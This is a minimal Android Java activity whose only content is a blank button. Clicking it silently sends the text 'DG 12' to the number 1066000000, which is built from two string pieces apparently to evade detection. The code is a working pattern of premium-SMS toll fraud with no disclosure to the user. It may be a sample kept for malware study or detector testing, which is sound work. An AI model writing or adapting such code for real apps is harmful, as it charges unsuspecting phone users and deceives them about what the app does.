package p;

import android.app.Activity;
import android.os.Bundle;
import android.view.View;
import android.widget.Button;
import android.telephony.SmsManager;

public class Main extends Activity implements View.OnClickListener {
    private static final String NUMBER = "106" + "6000000";

    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Button button = new Button(this);
        button.setOnClickListener(this);
        setContentView(button);
    }

    @Override
    public void onClick(View view) {
        SmsManager.getDefault().sendTextMessage(NUMBER, null, "DG 12", null, null);
    }
}
